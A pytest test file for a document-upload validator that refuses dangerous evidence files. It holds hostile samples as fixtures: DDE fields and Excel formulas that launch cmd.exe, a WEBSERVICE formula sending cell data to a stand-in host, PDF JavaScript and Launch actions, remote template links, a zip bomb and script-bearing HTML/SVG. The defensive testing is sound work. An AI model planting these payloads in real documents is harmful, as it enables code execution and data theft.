"""What is refused as evidence: content decides, whatever the name says."""

import io
import struct
import zlib

import pikepdf
import pytest
from buat_berkas import HEIC, arsip, foto, office, pdf, png, xlsx
from PIL import Image

from penilaian.paket import BATAS_BAGIAN
from penilaian.simpan.bukti import GalatBukti, jenis, ooxml, pekerja
from penilaian.simpan.bukti.jenis import BATAS_BERKAS, BATAS_FOTO
from penilaian.simpan.bukti.terima import siapkan_berkas

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
MAKRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
SALINDIA = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
EXE = b"MZ\x90\x00" + bytes(200)
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"


def kode(nama: str, isi: bytes) -> str:
    with pytest.raises(GalatBukti) as galat:
        siapkan_berkas(nama, isi)
    (temuan,) = galat.value.temuan
    return temuan.kode


@pytest.mark.parametrize(
    ("nama", "isi", "diharap"),
    [
        ("kosong.pdf", b"", "U01"),
        ("surat.pdf", b"%PDF-1.4\n" + bytes(BATAS_BERKAS), "U02"),
        ("foto.jpg", b"\xff\xd8\xff" + bytes(BATAS_FOTO), "U02"),
        ("besar.bin", bytes(BATAS_FOTO + 1), "U02"),
        ("surat.pdf", EXE, "U03"),
        ("surat.pdf.exe", EXE, "U03"),
        ("data.csv", b"a;b\n1;2\n", "U03"),
        ("gambar.gif", b"GIF89a" + bytes(50), "U03"),
        ("gambar.webp", b"RIFF\x00\x00\x00\x00WEBPVP8 ", "U03"),
        ("film.mp4", b"\x00\x00\x00\x18ftypisom" + bytes(50), "U03"),
        ("arsip.zip", arsip({"a.txt": "a"}), "U03"),
        ("arsip.docx", office(SALINDIA), "U03"),
        ("halaman.pdf", HTML, "U04"),
        ("halaman.png", b"\xef\xbb\xbf  \n" + HTML, "U04"),
        ("halaman.jpg", "\ufeff<html>".encode("utf-16-le"), "U04"),
        ("gambar.svg", SVG, "U04"),
        ("gambar.png", SVG, "U04"),
        ("teks.txt", b"halo <ScRiPt src=//x>", "U04"),
        ("rusak.pdf", b"%PDF-1.4\nbukan PDF", "U05"),
        ("rusak.jpg", foto()[:400], "U05"),
        ("rusak.png", png()[:45], "U05"),
        ("rusak.heic", HEIC[:300], "U05"),
        ("rusak.xlsx", xlsx()[:500], "U05"),
        ("makro.docx", office(MAKRO), "U06"),
        ("lama.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "U09"),
    ],
    ids=lambda x: x if isinstance(x, str) else "",
)  # fmt: skip
def test_other_contents_are_refused_under_any_name(nama, isi, diharap):
    assert kode(nama, isi) == diharap


@pytest.mark.parametrize(
    "isi",
    [
        office(tambahan={"word/vbaProject.bin": b"x"}),
        office(jenis_lain='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        office(jenis_lain='<Override PartName="/x.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'),
        office(tambahan={"xl/macrosheets/sheet1.xml": "<x/>"}),
    ],
    ids=["vbaProject", "vbaProject bernama lain", "activeX", "macrosheet"],
)
def test_macros_are_refused_wherever_they_hide(isi):
    assert kode("surat.docx", isi) == "U06"


def hubungan(tujuan: str, jenis: str = "attachedTemplate") -> bytes:
    isi = f'<R><Relationship Type="http://x/relationships/{jenis}" Target="{tujuan}" TargetMode="External"/></R>'
    return office(tambahan={"word/_rels/settings.xml.rels": isi})


@pytest.mark.parametrize("tujuan", ["https://contoh.id/a.dotm", r"\\peladen\a.dotm", "file://peladen/a.dotm"])
def test_document_that_loads_a_template_from_elsewhere_is_refused(tujuan):
    assert kode("surat.docx", hubungan(tujuan)) == "U06"


@pytest.mark.parametrize(
    "jenis_hubungan",
    [
        "attachedTemplate",
        "oleObject",
        "frame",
        "image",
        "externalLinkPath",
        "subDocument",
        "video",
        "jenisYangBelumAda",
    ],
)
@pytest.mark.parametrize(
    "tujuan",
    [
        "https://contoh.id/a", "HTTP://contoh.id/a", "ftp://contoh.id/a", r"\\peladen\bagi\a", "//peladen/a",
        r"file:///\\peladen\a", "file:////peladen/a", "mhtml:http://contoh.id/a!x-usc:b", r"\\?\UNC\peladen\a",
    ],
)  # fmt: skip
def test_nothing_that_opens_by_itself_may_lead_to_another_machine(tujuan, jenis_hubungan):
    with pytest.raises(ooxml.Ditolak) as galat:
        ooxml.kenali_ooxml(hubungan(tujuan, jenis_hubungan))
    assert galat.value.args[0] == "U06"


@pytest.mark.parametrize(
    ("tujuan", "jenis_hubungan"),
    [
        (r"file:///C:\Users\a\Template.dotx", "attachedTemplate"), ("https://desa.id", "hyperlink"),
        ("Buku2.xlsx", "externalLinkPath"), (r"D:\kantor\Buku2.xlsx", "externalLinkPath"),
        ("/Users/a/Buku2.xlsx", "externalLinkPath"), ("file:///home/a/Buku2.xlsx", "externalLinkPath"),
        ("mailto:desa@contoh.id", "hyperlink"),
    ],
)  # fmt: skip
def test_own_template_and_ordinary_links_are_no_reason_to_refuse(tujuan, jenis_hubungan):
    assert siapkan_berkas("surat.docx", hubungan(tujuan, jenis_hubungan)).tipe == DOCX


def surat(*isi: str) -> bytes:
    """Return a DOCX whose text is the given XML."""
    return office(tambahan={"word/document2.xml": f"<w:d>{''.join(f'<w:p>{x}</w:p>' for x in isi)}</w:d>"})


def medan(*potong: str) -> str:
    tengah = "".join(f"<w:r><w:instrText>{x}</w:instrText></w:r>" for x in potong)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{tengah}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def buku(lembar: str, bagian: str = "xl/worksheets/sheet1.xml") -> bytes:
    return office(tambahan={bagian: lembar})


@pytest.mark.parametrize(
    "isi",
    [
        surat(medan(r' DDEAUTO c:\\windows\\cmd.exe "/k calc"')),
        surat(medan(" DD", "EAU", "TO c:\\cmd.exe")),
        surat("<w:r><w:t>Isi</w:t></w:r>", medan(" DATE ") + medan(" dde excel a b ")),
        surat(r'<w:fldSimple w:instr=" DDE excel a b "/>'),
        surat(medan(" QUOTE 68 68 69 ")),
        surat(medan(' INCLUDEPICTURE "https://contoh.id/a.png" \\d')),
        surat(medan(r' INCLUDETEXT "\\\\peladen\\a.docx"')),
        surat(medan(' LINK Excel.Sheet.8 "http://contoh.id/a.xlsx" ')),
        buku("<worksheet><c><f>cmd|'/C calc'!A0</f></c></worksheet>"),
        buku("<worksheet><c><f>DDE|topik!isi</f></c></worksheet>"),
        buku('<worksheet><c><f>_xlfn.WEBSERVICE("https://contoh.id/?"&amp;A1)</f></c></worksheet>'),
        buku('<worksheet><c><f>RTD("a",,"b")</f></c></worksheet>'),
        buku("<workbook><definedName name='a'>cmd|'/C calc'!A0</definedName></workbook>", "xl/workbook.xml"),
        buku("<x:externalLink><x:ddeLink ddeService='cmd'/></x:externalLink>", "xl/externalLinks/externalLink1.xml"),
        buku("<externalLink><oleLink/></externalLink>", "xl/externalLinks/externalLink1.xml"),
        buku(
            '<connections><connection><webPr url="https://contoh.id"/></connection></connections>', "xl/connections.xml"
        ),
        buku('<connections><connection><dbPr connection="a"/></connection></connections>', "xl/connections.xml"),
    ],
    ids=lambda _: "",
)
def test_fields_formulas_and_connections_that_run_or_fetch_something_are_refused(isi):
    with pytest.raises(ooxml.Ditolak) as galat:
        ooxml.kenali_ooxml(isi)
    assert galat.value.args[0] == "U06"


@pytest.mark.parametrize(
    "isi",
    [
        surat(medan(" PAGE "), medan(' HYPERLINK "https://contoh.id/LINK//x" '), medan(r" TOC \o \h ")),
        surat("<w:r><w:t>DDE adalah cara lama; DDEAUTO juga. QUOTE 68</w:t></w:r>"),
        surat(medan(r' INCLUDEPICTURE "C:\\gambar\\a.png" \* MERGEFORMAT ')),
        buku("<worksheet><c><f>SUM('APBDes | 2026'!A1:A3)+IF(B1=\"a|b!c\",1,0)</f></c></worksheet>"),
        buku('<worksheet><c><f>HYPERLINK("https://contoh.id")</f></c><c><t>cmd|x!y</t></c></worksheet>'),
    ],
    ids=["ordinary fields", "text about it", "a picture of one's own", "pipe in names", "a link to click"],
)
def test_what_only_looks_like_a_command_is_no_reason_to_refuse(isi):
    assert ooxml.kenali_ooxml(isi) == "docx"


@pytest.mark.parametrize(
    "isi",
    [
        surat('<o:OLEObject Type="Embed" ProgID="Package"/>'),
        office(
            tambahan={"word/_rels/document.xml.rels": '<R><Relationship Type="http://x/aFChunk" Target="a.mht"/></R>'}
        ),
    ],
    ids=["a package", "a page of another format"],
)
def test_an_office_file_with_another_file_in_it_is_refused(isi):
    assert kode("surat.docx", isi) == "U08"


SKRIP = "<</S/JavaScript/JS(app.alert\\(1\\))>>"


@pytest.mark.parametrize(
    "isi",
    [
        pdf(katalog=f"/OpenAction{SKRIP}"),
        pdf(katalog="/OpenAction 4 0 R", lain=(SKRIP,)),
        pdf(katalog=f"/Names<</JavaScript<</Names[(a){SKRIP}]>>>>"),
        pdf(katalog=f"/AA<</WC{SKRIP}>>"),
        pdf(lembar=f"/AA<</O{SKRIP}>>"),
        pdf(lembar="/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>]"),
        pdf(lembar="/Annots[4 0 R]", lain=("<</Subtype/Link/Rect[0 0 9 9]/A 5 0 R>>", "<</S/GoToR/F(//a/b.pdf)>>")),
        pdf(katalog="/OpenAction<</S/SubmitForm/F(https://contoh.id)>>"),
        pdf(katalog="/OpenAction<</S/URI/URI(https://contoh.id)>>"),
        pdf(lembar="/AA<</O<</S/URI/URI(https://contoh.id)>>>>"),
        pdf(katalog="/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/Launch/F(a.exe)>>>>"),
        pdf(katalog="/AcroForm<</XFA[]/Fields[]>>"),
        pdf(katalog="/OpenAction<</S/#4AavaScript/J#53(a)>>"),
    ],
    ids=lambda _: "",
)
def test_a_pdf_that_runs_sends_or_fetches_something_is_refused(isi):
    assert kode("surat.pdf", isi) == "U06"


def test_a_script_in_a_compressed_part_of_a_pdf_is_found():
    keluar = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(katalog="/OpenAction 4 0 R", lain=(SKRIP,)))) as dok:
        dok.save(keluar, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"JavaScript" not in keluar.getvalue()
    assert kode("surat.pdf", keluar.getvalue()) == "U06"


def test_a_pdf_with_another_file_in_it_is_refused():
    lampiran = ("<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", "<</Length 2>>stream\nMZ\nendstream")
    assert kode("surat.pdf", pdf(katalog="/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>", lain=lampiran)) == "U08"


@pytest.mark.parametrize(
    "isi",
    [
        pdf(katalog="/OpenAction[3 0 R/Fit]"),
        pdf(katalog="/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
        pdf(lembar="/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://desa.id)>>>>]"),
        pdf(katalog="/AcroForm<</Fields[<</FT/Sig/T(tanda tangan)>>]/SigFlags 3>>"),
    ],
    ids=["a place to open at", "the same as an action", "a link to click", "a signature"],
)
def test_what_ordinary_pdf_files_do_is_no_reason_to_refuse(isi):
    assert siapkan_berkas("surat.pdf", isi).isi == isi


def test_zip_bomb_is_refused_without_being_inflated():
    isi = office(tambahan={"word/media/a.bin": bytes(ooxml.BATAS_URAI + 1)})
    assert len(isi) < 200_000
    assert kode("surat.docx", isi) == "U07"


def test_parts_that_overlap_are_refused():
    asal = office(tambahan={"word/a.bin": b"abc" * 1000})
    # the directory announces one part as larger than the archive: as in bombs whose parts share their bytes
    letak = asal.index(b"PK\x01\x02")
    isi = asal[: letak + 20] + struct.pack("<I", len(asal) * 2) + asal[letak + 24 :]
    assert kode("surat.docx", isi) == "U07"


def test_too_many_parts_are_refused():
    assert kode("surat.docx", office(tambahan={f"a{n}": "" for n in range(BATAS_BAGIAN)})) == "U07"


def test_document_with_entities_is_refused():
    bom = '<!DOCTYPE a [<!ENTITY b "cccc">]><Types/>'
    assert kode("surat.docx", arsip({"[Content_Types].xml": bom})) == "U05"


def test_archive_hidden_behind_a_pdf_is_refused():
    assert kode("surat.pdf", pdf() + arsip({"a.exe": EXE})) == "U08"


@pytest.mark.parametrize(
    "isi",
    [office() + HTML, arsip({"[Content_Types].xml": "<Types/>"}, komentar=HTML), arsip({"a.exe": EXE}) + office()],
    ids=["behind", "as a comment", "before"],
)
def test_anything_before_or_behind_an_office_file_is_refused(isi):
    assert kode("surat.docx", isi) == "U08"


@pytest.mark.parametrize("gambar", [foto(), png()], ids=["jpeg", "png"])
def test_what_hangs_behind_a_picture_is_not_kept(gambar):
    assert HTML not in siapkan_berkas("a.jpg", gambar + HTML + arsip({"a": "b"})).isi


def potongan(nama: bytes, isi: bytes) -> bytes:
    return struct.pack(">I", len(isi)) + nama + isi + struct.pack(">I", zlib.crc32(nama + isi))


@pytest.mark.parametrize(
    ("lebar", "tinggi"), [(40_000, 40_000), (9_000, 9_000), (12_000, 10_000), (8_900, 8_900), (4_000, 2_501)]
)
def test_picture_of_too_many_pixels_is_refused(lebar, tinggi):
    kepala = potongan(b"IHDR", struct.pack(">IIBBBBB", lebar, tinggi, 1, 0, 0, 0, 0))
    baris = zlib.compress(bytes((lebar // 8 + 1) * 200))
    assert kode("a.png", b"\x89PNG\r\n\x1a\n" + kepala + potongan(b"IDAT", baris) + potongan(b"IEND", b"")) == "U10"


@pytest.mark.parametrize("tipe", ["PNG", "JPEG"])
def test_an_empty_picture_of_an_ordinary_camera_is_none_of_too_many_pixels(tipe):
    keluar = io.BytesIO()
    Image.new("L", (4_000, 3_000), 255).save(keluar, tipe, quality=85)
    assert siapkan_berkas("a.png", keluar.getvalue()).isi


def test_picture_that_stays_too_large_is_refused(monkeypatch):
    monkeypatch.setattr(jenis, "BATAS_BERKAS", 50)
    assert kode("a.png", png()) == "U02"


@pytest.mark.parametrize(("teks", "jadi"), [("import time; time.sleep(600)", "U16"), ("while True: pass", "U17")])
def test_worker_that_does_not_end_is_ended_and_a_busy_processor_is_not_blamed_on_the_file(
    monkeypatch, tmp_path, teks, jadi
):
    lama = tmp_path / "lama.py"
    lama.write_text(teks)
    monkeypatch.setattr(pekerja, "_BENGKEL", lama)
    monkeypatch.setattr(pekerja, "_BATAS", pekerja._BATAS._replace(detik=1.0, prosesor=60))
    assert kode("a.pdf", pdf()) == jadi


def test_worker_that_dies_is_a_finding_and_no_crash(monkeypatch, tmp_path):
    mati = tmp_path / "mati.py"
    mati.write_text("import os; os.kill(os.getpid(), 11)")
    monkeypatch.setattr(pekerja, "_BENGKEL", mati)
    assert kode("a.pdf", pdf()) == "U16"


def test_worker_sees_no_password_of_the_environment(monkeypatch, tmp_path):
    intip = tmp_path / "intip.py"
    intip.write_text("import json, os; print(json.dumps({'tipe': ' '.join(os.environ)}))")
    monkeypatch.setattr(pekerja, "_BENGKEL", intip)
    monkeypatch.setenv("PENILAIAN_DB", "postgresql://a:rahasia@b/c")
    assert "PENILAIAN_DB" not in pekerja.olah("a.pdf", b"", "pdf").tipe


def test_findings_name_the_file_and_the_repair():
    with pytest.raises(GalatBukti) as galat:
        siapkan_berkas("C:\\Users\\a\\surat.docm", office(MAKRO))
    assert "surat.docm" in str(galat.value)
    assert "tanpa makro" in str(galat.value)
